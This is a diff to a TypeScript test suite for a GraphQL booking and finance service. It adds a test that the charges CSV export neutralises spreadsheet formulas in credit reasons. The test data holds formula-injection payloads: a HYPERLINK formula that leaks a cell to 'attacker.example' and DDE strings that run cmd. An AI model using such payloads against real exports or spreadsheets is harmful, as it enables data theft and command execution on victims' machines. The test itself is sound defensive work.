@@ -1,4 +1,5 @@
 import { createHash, generateKeyPairSync, randomUUID } from 'node:crypto';
+import { parse } from 'csv-parse/sync';
 import jwt from 'jsonwebtoken';
 import { PROVINCES, seededUserId, type ProvinceKey } from '../../shared/src';
 import { DEFAULT_MAX_OPEN_BOOKINGS_PER_PERSON } from '../../subgraphs/province/src';
@@ -1737,6 +1738,31 @@ describe('oversized strings: services, charges and vouchers', () => {
     { name: 'a 100 000-character callback address', targets: ['gateway', 'platform'], request: () => op('mutation($c: String!) { completeExternalSignIn(provider: "demo", callbackUrl: $c) { token } }', { c: `http://127.0.0.1:5173/signed-in?code=${huge(100_000)}` }), expect: BAD_USER_INPUT },
     { name: 'a 10 000-character provider name', targets: ['gateway', 'platform'], request: () => op('mutation($p: String!) { beginExternalSignIn(provider: $p, redirectUri: "http://127.0.0.1:5173/signed-in") { state } }', { p: huge(10_000) }), expect: BAD_USER_INPUT },
   ]);
+});
+
+// Text from callers that starts like a formula reaches the finance export as text, never as a formula a spreadsheet would run.
+describe('formulas in the charges export', () => {
+  const CSV = 'query($from: DateTime!, $to: DateTime!) { sichuan { chargesCsv(from: $from, to: $to) } }';
+  const FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Refund")', "+cmd|' /C calc'!A0", '-2+3+cmd|calc!A0', '@SUM(1+1)*cmd|calc!A0'];
+  cases(FORMULAS.map((reason): Case => {
+    let chargeId = '';
+    return {
+      name: `a credit reason of ${reason.slice(0, 12)}…`,
+      as: 'sc.admin',
+      request: async () => {
+        chargeId = await chargeFor(sql, 'sichuan', 10_000);
+        await must(CREDIT, fx.tokens['sc.admin'], { id: chargeId, a: 100, r: reason });
+        return op(CSV, { from: daysFromNow(-1), to: daysFromNow(1) });
+      },
+      expect: {
+        ok: (data) => {
+          const rows = parse(data.sichuan.chargesCsv, { columns: true }) as Record<string, string>[];
+          const credit = rows.find((row) => row['charge_id'] === chargeId && row['line_kind'] === 'CREDIT');
+          expect(credit).toMatchObject({ reason: `'${reason}`, amount_fen: '-100' });
+        },
+      },
+    };
+  }));
 });
 
 // The calendar routes answer iCalendar or plain text, not GraphQL: each bad address is a 4xx with a short text, never a 5xx or a leak.
